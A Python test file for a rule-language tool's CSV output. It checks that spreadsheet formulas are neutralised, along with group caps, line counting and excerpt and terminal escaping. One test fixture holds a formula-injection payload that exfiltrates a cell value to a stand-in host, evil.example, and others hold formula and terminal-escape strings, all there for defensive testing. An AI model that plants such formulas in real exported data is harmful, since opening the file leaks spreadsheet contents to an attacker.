"""CSV output never carries a formula; no path is quadratic in what it reads (issue 11, points 4, 10 and 12).

Speeds are measured in ``benchmarks/quadratic_paths.py``; these tests check the behaviour that makes them
linear (one line table, one suggestion index, capped excerpts, a cap on groups).
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from carag_dsl import RuleError, load, loads
from carag_dsl.errors import Suggestions
from carag_dsl.rating.tally import TooManyGroups
from carag_dsl.runtime.spreadsheet import safe_cell
from carag_dsl.source import EXCERPT_WIDTH, Source, Span

REPO = Path(__file__).resolve().parent.parent
SAMPLE = REPO / "tests" / "fixtures" / "sample"


def run_carag(*argv: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "carag_dsl", *argv], capture_output=True, text=True, timeout=120)


@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://x\",\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_cells_a_spreadsheet_would_run_as_formulas_get_a_quote(cell):
    assert safe_cell(cell) == "'" + cell
    assert safe_cell("licence") == "licence" and safe_cell(3) == 3 and safe_cell("") == ""


def test_rate_csv_output_neutralises_a_formula_coming_from_case_data(tmp_path):
    cases = tmp_path / "cases.jsonl"
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    cases.write_text("\n".join(json.dumps({"id": i, "facts": {"sentence": "licence", "notes": note}})
                               for i, note in enumerate([hostile, "-1+2", "plain"])) + "\n", encoding="utf-8")
    done = run_carag("rate", str(SAMPLE), "--cases", str(cases), "--by", "notes", "--format", "csv")
    assert done.returncode == 0, done.stderr
    values = {row["value"] for row in csv.DictReader(io.StringIO(done.stdout))}
    assert "'" + hostile in values and "'-1+2" in values and "plain" in values  # written unchanged before
    assert not any(value.startswith(("=", "+", "-", "@")) for value in values)


def test_rate_by_a_field_with_more_values_than_the_cap_stops_with_exit_2_unless_allowed(tmp_path):
    cases = tmp_path / "cases.jsonl"
    cases.write_text("".join(json.dumps({"id": i, "facts": {"notes": f"note {i}"}}) + "\n" for i in range(30)), encoding="utf-8")
    done = run_carag("rate", str(SAMPLE), "--cases", str(cases), "--by", "notes", "--max-groups", "20")
    assert done.returncode == 2 and "more than 20 different values" in done.stderr and "Traceback" not in done.stderr
    done = run_carag("rate", str(SAMPLE), "--cases", str(cases), "--by", "notes", "--max-groups", "30", "--format", "json")
    assert done.returncode == 0 and len(json.loads(done.stdout)["groups"]) == 30
    with pytest.raises(TooManyGroups):
        load(SAMPLE).rate(({"facts": {"notes": str(i)}} for i in range(1001)), by="notes")  # the default cap: 1,000
    assert len(load(SAMPLE).rate(({"facts": {"notes": str(i)}} for i in range(1001)), by="notes", max_groups=None).groups) == 1001


def test_source_lines_are_counted_at_newlines_only_as_lark_counts_them():
    text = "fact a: bool # a line separator\u2028, a form feed\x0c and a NEL\x85 in a comment\nfact b: bool\nfact c: nope\n"
    with pytest.raises(RuleError) as raised:
        loads(text)
    (diagnostic,) = raised.value.diagnostics
    assert diagnostic.span.line == 3
    assert "fact c: nope" in diagnostic.render()  # splitlines() quoted 'fact b: bool' before
    assert Source("x", text).line(2) == "fact b: bool"


def test_comment_lines_are_counted_in_one_pass_over_the_text():
    """40,000 comments took 8 s when each one counted the newlines from the start of the file (quadratic)."""
    from carag_dsl.language.parser import _comments

    class CountingText(str):
        """Text that adds up how many characters ``count`` scans."""

        scanned = 0

        def count(self, sub, start=0, end=None):  # type: ignore[override]
            end = len(self) if end is None else end
            CountingText.scanned += max(0, end - start)
            return str.count(self, sub, start, end)

    text = CountingText("".join(f"# comment {i}\nfact f{i}: bool\n" for i in range(2_000)))
    assert [comment.line for comment in _comments(text)] == list(range(1, 4_000, 2))
    assert CountingText.scanned <= len(text)  # every character at most once, however many comments


def test_an_excerpt_of_a_huge_line_is_cut_around_the_place():
    line = "x" * 100_000 + " ERROR " + "y" * 100_000
    source = Source("big.carag", line + "\n")
    span = Span(source, 1, 100_002, 1, 100_007)
    text, caret = span.excerpt()
    assert len(text) < EXCERPT_WIDTH + 20 and "ERROR" in text  # the whole 200,000-character line before
    assert text[caret.index("^")] == "E"


def test_control_characters_in_a_quoted_rule_line_are_shown_not_sent_to_the_terminal():
    (text, caret) = Span(Source("r.carag", 'fact a: bool # \x1b[2J\x07 here\n'), 1, 1, 1, 5).excerpt()
    assert "\x1b" not in text and "\x07" not in text


def test_one_suggestion_index_serves_every_unknown_name_of_a_check(monkeypatch):
    built = []
    original = Suggestions.__init__
    monkeypatch.setattr(Suggestions, "__init__", lambda self, candidates: built.append(1) or original(self, candidates))
    text = "fact sentence: bool\n" + "".join(f"define d{i} = sentense and unknown_{i}\n" for i in range(50))
    with pytest.raises(RuleError) as raised:
        loads(text)
    assert len(raised.value.diagnostics) == 100 and len(built) == 1  # one per diagnostic before
    assert "(did you mean 'sentence'?)" in raised.value.diagnostics[0].message


def test_suggestions_stop_when_their_budget_is_spent():
    index = Suggestions([f"name_{i}" for i in range(1000)])
    index._budget = 1500
    assert index.did_you_mean("name_1x") != ""
    assert [index.did_you_mean(f"name_{i}z") for i in range(50)][-1] == ""  # no more searches through everything
